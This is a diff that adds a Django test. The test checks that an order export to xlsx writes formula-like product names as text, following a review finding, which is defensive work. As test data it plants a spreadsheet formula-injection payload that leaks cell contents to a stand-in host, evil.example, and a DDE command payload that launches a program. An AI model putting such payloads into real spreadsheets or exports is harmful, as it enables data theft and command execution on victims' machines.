@@ -154,6 +154,33 @@ def test_order_export_is_the_current_filter(sclient, ingested):
     assert int(response["X-Exported-Rows"]) == len(finished)
 
 
+def test_order_export_writes_workbook_text_as_text_not_formulas(sclient, ingested):
+    """A product name that looks like a formula (from the ERP's workbook) is exported as text (review finding)."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from orders.models import Product
+
+    as_of = ingested["as_of"]
+    done = ManufacturingOrder.objects.filter(finished_at__lte=as_of, product_id__isnull=False).order_by("id")
+    first, second = done.values_list("product_id", flat=True).distinct()[:2]
+    names = {first: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', second: "=cmd|' /C calc'!A0"}
+    for product_id, name in names.items():
+        Product.objects.filter(pk=product_id).update(name=name)  # the test transaction's rollback restores it
+    response = sclient.get("/orders/export.xlsx?status=DONE")
+    assert response.status_code == 200
+    with zipfile.ZipFile(BytesIO(response.content)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+    sheet = load_workbook(BytesIO(response.content))["orders"]
+    header = [c.value for c in sheet[1]]
+    at_product, at_name = header.index("product_id"), header.index("product_name")
+    exported = {row[at_product].value: row[at_name] for row in sheet.iter_rows(min_row=2)}
+    for product_id, name in names.items():
+        assert exported[product_id].value == name and exported[product_id].data_type == "s"
+
+
 def test_order_detail_gantt_errors_and_prediction(sclient, ingested, django_assert_max_num_queries):
     from quality.models import QualityError
 
